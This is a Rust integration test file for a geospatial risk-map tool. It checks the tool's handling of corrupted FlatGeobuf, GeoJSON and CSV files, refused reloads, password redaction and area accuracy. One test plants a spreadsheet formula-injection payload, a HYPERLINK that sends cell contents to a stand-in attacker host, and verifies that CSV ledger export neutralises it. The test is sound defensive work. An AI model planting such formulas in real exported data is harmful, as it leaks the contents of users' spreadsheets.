//! Bad data is never served silently: truncated or padded files, missing
//! or emptied layers, formula cells in ledgers, negative zeros, and
//! database passwords in messages — each through the real binary.

mod common;

use common::*;
use riskmap::config::Config;
use std::path::Path;

/// `riskmap validate --data .` in `dir`: exit code and all output.
fn validate(dir: &Path) -> (i32, String) {
    let out = run(dir, &["validate", "--data", "."]);
    (out.status.code().unwrap_or(-1), output_text(&out))
}

/// The tiny dataset written as FlatGeobuf files into `dir`.
fn write_tiny_fgb(dir: &Path) {
    let src = tempfile::tempdir().unwrap();
    write_tiny_dataset(src.path());
    let loaded = riskmap::ingest::load_dir(src.path(), &Config::default().ingest()).unwrap();
    riskmap::write::write_dataset(dir, &loaded.dataset, riskmap::write::Format::Fgb).unwrap();
}

fn u32_at(bytes: &[u8], at: usize) -> usize {
    u32::from_le_bytes(bytes[at..at + 4].try_into().unwrap()) as usize
}

/// Where each feature of a FlatGeobuf file starts (after the magic bytes,
/// the header and the packed R-tree, whose size the format defines), and
/// where its index starts.
fn fgb_layout(bytes: &[u8]) -> (usize, Vec<usize>) {
    let mut cursor = std::io::Cursor::new(bytes);
    let reader = flatgeobuf::FgbReader::open(&mut cursor).unwrap();
    let count = reader.header().features_count() as usize;
    let node = usize::from(reader.header().index_node_size());
    let mut nodes = 0;
    if node > 0 && count > 0 {
        let mut n = count;
        nodes = count;
        while n != 1 {
            n = n.div_ceil(node);
            nodes += n;
        }
    }
    let index_at = 12 + u32_at(bytes, 8);
    let mut at = index_at + nodes * 40;
    let mut starts = Vec::new();
    while at < bytes.len() {
        starts.push(at);
        at += 4 + u32_at(bytes, at);
    }
    assert_eq!(at, bytes.len(), "the test's own layout walk");
    assert_eq!(starts.len(), count);
    (index_at, starts)
}

/// The ways a file arrives broken: cut at 10 %, 50 % and 99 %, plus
/// `extra` cases of the format.
fn cuts(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    [10, 50, 99]
        .into_iter()
        .map(|pct| {
            (
                format!("cut at {pct} %"),
                bytes[..bytes.len() * pct / 100].to_vec(),
            )
        })
        .chain([(
            "trailing garbage".to_string(),
            [bytes, b"\x00\x01garbage\n".as_slice()].concat(),
        )])
        .collect()
}

/// Every broken variant of an FGB file: the cuts, a cut inside the index,
/// a cut at a feature boundary (the header promises one more) and one
/// feature too many (the header promises one fewer).
fn fgb_variants(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
    let (index_at, starts) = fgb_layout(bytes);
    let last = *starts.last().unwrap();
    let mut out = cuts(bytes);
    out.push((
        "truncated index".into(),
        bytes[..index_at + (starts[0] - index_at) / 2].to_vec(),
    ));
    out.push((
        "one feature missing (header count too high)".into(),
        bytes[..last].to_vec(),
    ));
    out.push((
        "one feature too many (header count too low)".into(),
        [bytes, &bytes[last..]].concat(),
    ));
    out
}

#[test]
fn broken_flatgeobuf_fails_validate_naming_the_file() {
    let tmp = tempfile::tempdir().unwrap();
    write_tiny_fgb(tmp.path());
    let (code, text) = validate(tmp.path());
    assert_eq!(code, 0, "{text}");
    assert!(text.contains("3 enterprises"), "{text}");
    let path = tmp.path().join("enterprises.fgb");
    let good = std::fs::read(&path).unwrap();
    for (what, bytes) in fgb_variants(&good) {
        std::fs::write(&path, &bytes).unwrap();
        let (code, text) = validate(tmp.path());
        assert_eq!(code, 1, "{what}: expected exit 1\n{text}");
        assert!(text.contains("enterprises.fgb:"), "{what}: {text}");
        assert!(!text.contains("panicked"), "{what}: {text}");
    }
}

#[test]
fn broken_geojson_and_csv_fail_validate_naming_the_file() {
    let tmp = tempfile::tempdir().unwrap();
    write_tiny_dataset(tmp.path());
    let grid = tmp.path().join("grid_cells.geojson");
    let good = std::fs::read(&grid).unwrap();
    for (what, bytes) in cuts(&good) {
        std::fs::write(&grid, &bytes).unwrap();
        let (code, text) = validate(tmp.path());
        assert_eq!(code, 1, "{what}: expected exit 1\n{text}");
        assert!(text.contains("grid_cells.geojson:"), "{what}: {text}");
    }
    std::fs::write(&grid, &good).unwrap();

    let csv = tmp.path().join("enterprises.csv");
    let text = enterprises_csv();
    let last_row = text.trim_end().rfind('\n').unwrap() + 1;
    let mut variants = cuts(text.as_bytes());
    variants.extend([
        (
            "unterminated quote".to_string(),
            format!("{text}E4,\"未闭合的引号,燃气,低,1,0,0,否,118.59,24.91\n").into_bytes(),
        ),
        (
            "last row cut to too few cells".to_string(),
            format!(
                "{}{}\n",
                &text[..last_row],
                text[last_row..].chars().take(5).collect::<String>()
            )
            .into_bytes(),
        ),
    ]);
    for (what, bytes) in variants {
        std::fs::write(&csv, &bytes).unwrap();
        let (code, out) = validate(tmp.path());
        assert_eq!(code, 1, "{what}: expected exit 1\n{out}");
        assert!(out.contains("enterprises.csv:"), "{what}: {out}");
    }
}

/// A server on the tiny dataset in FlatGeobuf, with the demo tokens and
/// `toml` as its config.
fn start_fgb(toml: &str) -> (tempfile::TempDir, Server) {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("ds");
    write_tiny_fgb(&data);
    install_demo_tokens(tmp.path());
    std::fs::write(tmp.path().join("riskmap.toml"), toml).unwrap();
    let server = Server::start(tmp.path(), &data, &[]);
    (tmp, server)
}

/// Reloads and expects a refusal naming `file`, with `/health` unchanged.
fn expect_refused(server: &Server, before: &serde_json::Value, file: &str, what: &str) {
    let (status, body) = server.post("/api/admin/reload", Some(ADMIN));
    assert_eq!(status, 422, "{what}: {body}");
    let refused = json(&body);
    let errors = refused["errors"].as_array().unwrap();
    assert!(
        errors.iter().any(|e| e["file"] == file),
        "{what}: no error names {file}: {body}"
    );
    let now = json(&server.get("/health").1);
    assert_eq!(now["counts"], before["counts"], "{what}");
    assert_eq!(now["data_version"], before["data_version"], "{what}");
}

#[test]
fn broken_flatgeobuf_is_refused_on_reload_and_the_old_data_keeps_serving() {
    let (tmp, server) = start_fgb("");
    let before = json(&server.get("/health").1);
    assert_eq!(before["counts"]["enterprises"], 3, "{before}");
    let path = tmp.path().join("ds/enterprises.fgb");
    let good = std::fs::read(&path).unwrap();
    for (what, bytes) in fgb_variants(&good) {
        std::fs::write(&path, &bytes).unwrap();
        expect_refused(&server, &before, "enterprises.fgb", &what);
    }
}

#[test]
fn a_layer_lost_on_reload_is_refused_unless_optional() {
    let (tmp, server) = start_tiny("");
    let data = tmp.path().join("ds");
    let before = json(&server.get("/health").1);
    assert_eq!(before["counts"]["hazard_sources"], 2, "{before}");

    // Deleted.
    let hazards = data.join("hazard_sources.geojson");
    std::fs::remove_file(&hazards).unwrap();
    expect_refused(&server, &before, "hazard_sources", "deleted");
    // Emptied (a valid file without features).
    std::fs::write(&hazards, "{\"type\":\"FeatureCollection\",\"features\":[]}").unwrap();
    expect_refused(&server, &before, "hazard_sources.geojson", "emptied");
    let (_, body) = server.post("/api/admin/reload", Some(ADMIN));
    assert!(body.contains("optional = true"), "{body}");
}

#[test]
fn an_optional_layer_may_go() {
    let (tmp, server) = start_tiny("[layers.hazard_sources]\noptional = true\n");
    std::fs::remove_file(tmp.path().join("ds/hazard_sources.geojson")).unwrap();
    let (status, body) = server.post("/api/admin/reload", Some(ADMIN));
    assert_eq!(status, 200, "{body}");
    assert_eq!(json(&body)["counts"]["hazard_sources"], 0, "{body}");
}

#[test]
fn an_empty_grid_is_always_an_error() {
    let tmp = tempfile::tempdir().unwrap();
    write_tiny_dataset(tmp.path());
    std::fs::write(
        tmp.path().join("grid_cells.geojson"),
        "{\"type\":\"FeatureCollection\",\"features\":[]}",
    )
    .unwrap();
    let (code, text) = validate(tmp.path());
    assert_eq!(code, 1, "{text}");
    assert!(
        text.contains("grid_cells.geojson:-: the grid holds no unit cells"),
        "{text}"
    );
    // serve refuses it too.
    let out = run(
        tmp.path(),
        &["serve", "--addr", "127.0.0.1:0", "--data", "."],
    );
    assert!(!out.status.success());
    assert!(
        output_text(&out).contains("the grid holds no unit cells"),
        "{}",
        output_text(&out)
    );
    // And `optional` cannot excuse it.
    std::fs::write(
        tmp.path().join("riskmap.toml"),
        "[layers.grid_cells]\noptional = true\n",
    )
    .unwrap();
    let (code, text) = validate(tmp.path());
    assert_eq!(code, 2, "{text}");
    assert!(text.contains("layers.grid_cells.optional"), "{text}");
}

#[test]
fn ledgers_neutralise_formulas() {
    let tmp = tempfile::tempdir().unwrap();
    let data = tmp.path().join("ds");
    write_tiny_dataset(&data);
    // E1 (较大, in 金山) is on 金山's ledger; its name is a formula.
    let csv = enterprises_csv().replace(
        "E1,泉州燃气有限公司,",
        "E1,\"=HYPERLINK(\"\"http://e.vil/?\"\"&A1,\"\"点击\"\")\",",
    );
    std::fs::write(data.join("enterprises.csv"), csv).unwrap();
    install_demo_tokens(tmp.path());
    let server = Server::start(tmp.path(), &data, &[]);
    let (status, body) = server.get_with("/api/cells/350502001001/ledger.csv", PLANNER);
    assert_eq!(status, 200, "{body}");
    let mut reader = csv::Reader::from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    let cells: Vec<String> = reader
        .records()
        .flat_map(|r| r.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    assert!(
        cells
            .iter()
            .any(|c| c == "'=HYPERLINK(\"http://e.vil/?\"&A1,\"点击\")"),
        "{cells:?}"
    );
    assert!(
        cells
            .iter()
            .all(|c| !c.starts_with(['=', '+', '-', '@', '\t', '\r'])),
        "{cells:?}"
    );
}

#[test]
fn no_negative_zero_is_printed() {
    let (tmp, server) = start_tiny("");
    // 笋浯第1网格 has no collapse zone: C is an empty sum.
    let (status, body) = server.get_with("/api/cells/350502001002001", PLANNER);
    assert_eq!(status, 200, "{body}");
    let cell = json(&body);
    assert_eq!(cell["breakdown"]["c"].to_string(), "0.0", "{body}");
    assert!(!body.contains("-0.0") && !body.contains(":-0"), "{body}");
    for out in ["s.csv", "s.geojson"] {
        let o = run(tmp.path(), &["score", "--data", "ds", "--out", out]);
        assert!(o.status.success(), "{}", output_text(&o));
        let text = std::fs::read_to_string(tmp.path().join(out)).unwrap();
        assert!(
            !text.contains(",-0,") && !text.contains(":-0"),
            "{out}: {text}"
        );
        assert!(!text.contains("-0.0"), "{out}: {text}");
    }
}

#[test]
fn database_passwords_are_never_printed() {
    let tmp = tempfile::tempdir().unwrap();
    let url = "postgresql://u:SECRET@127.0.0.1:1/x";
    let runs: [&[&str]; 5] = [
        &["export-pmtiles", "--data", url, "--out", "x.pmtiles"],
        &["validate", "--data", url],
        &["score", "--data", url, "--out", "s.csv"],
        &["serve", "--addr", "127.0.0.1:0", "--data", url],
        &["validate"],
    ];
    std::fs::write(
        tmp.path().join("riskmap.toml"),
        format!("data = \"{url}\"\n"),
    )
    .unwrap();
    for args in runs {
        let out = run(tmp.path(), args);
        let text = output_text(&out);
        assert!(!out.status.success(), "{args:?}: {text}");
        assert!(text.contains("u:***@127.0.0.1:1/x"), "{args:?}: {text}");
        assert!(!text.contains("SECRET"), "{args:?}: {text}");
    }
    // As the output of `score` too.
    write_tiny_dataset(&tmp.path().join("ds"));
    let out = run(
        tmp.path(),
        &[
            "score",
            "--data",
            "ds",
            "--out",
            "postgres://u:SECRET@127.0.0.1:1/x",
        ],
    );
    let text = output_text(&out);
    assert!(!out.status.success(), "{text}");
    assert!(!text.contains("SECRET"), "{text}");
}

/// Densifies every edge of `mp` in lon/lat (pieces of at most 0.001°), so
/// that a geodesic polygon follows the edges straight in lon/lat.
fn densified(mp: &geo::MultiPolygon<f64>) -> geo::MultiPolygon<f64> {
    use geo::{Coord, LineString, MapCoords};
    let ring = |r: &LineString<f64>| {
        let mut out: Vec<Coord<f64>> = Vec::new();
        for w in r.0.windows(2) {
            let n = ((w[1].x - w[0].x).abs().max((w[1].y - w[0].y).abs()) / 0.001)
                .ceil()
                .max(1.0);
            for i in 0..n as usize {
                let t = i as f64 / n;
                out.push(Coord {
                    x: w[0].x + (w[1].x - w[0].x) * t,
                    y: w[0].y + (w[1].y - w[0].y) * t,
                });
            }
        }
        out.extend(r.0.last());
        LineString(out)
    };
    let mp = mp.map_coords(|c| c);
    geo::MultiPolygon(
        mp.0.iter()
            .map(|p| {
                geo::Polygon::new(ring(p.exterior()), p.interiors().iter().map(ring).collect())
            })
            .collect(),
    )
}

/// The area bound quoted in `src/crs/metric.rs` and the docs: every grid
/// unit of the demo city, per level, our area against geo's geodesic area
/// of the same polygon (edges straight in lon/lat, densified), with the
/// former equirectangular projection centred on the bounding box for
/// comparison; and against the geodesic area of the raw vertices (edges
/// taken as geodesics), which differs by the edges' interpretation. The
/// figures: `cargo test --test integrity area_error_over_the_demo -- --nocapture`.
#[test]
fn area_error_over_the_demo() {
    use geo::{Area, BoundingRect, GeodesicArea, Point};
    use riskmap::crs::metric::{LocalProjection, area};
    use riskmap::model::Level;
    let ds = riskmap::generate::generate_dataset(riskmap::generate::Preset::Quanzhou, 42, &|_| {})
        .unwrap();
    let mut cells_worst = 0.0f64;
    for level in [Level::Cell, Level::Village, Level::Town, Level::County] {
        let (mut worst, mut worst_old, mut worst_raw, mut n) = (0.0f64, 0.0f64, 0.0f64, 0);
        for u in ds.units.iter().filter(|u| u.level == level) {
            n += 1;
            let truth = densified(&u.geometry).geodesic_area_unsigned();
            let ours = area(&u.geometry).0;
            worst = worst.max((ours - truth).abs() / truth);
            let raw = u.geometry.geodesic_area_unsigned();
            worst_raw = worst_raw.max((ours - raw).abs() / raw);
            let centre: Point<f64> = u.geometry.bounding_rect().unwrap().center().into();
            let old = LocalProjection::new(centre)
                .multi_polygon(&u.geometry)
                .unsigned_area();
            worst_old = worst_old.max((old - truth).abs() / truth);
        }
        println!(
            "{level:?}: {n} units; largest relative area error {worst:.2e} (box-centred projection: {worst_old:.2e}); against geodesic edges {worst_raw:.2e}"
        );
        if level == Level::Cell {
            cells_worst = worst;
        }
    }
    assert!(cells_worst < 1e-6, "{cells_worst}");
}
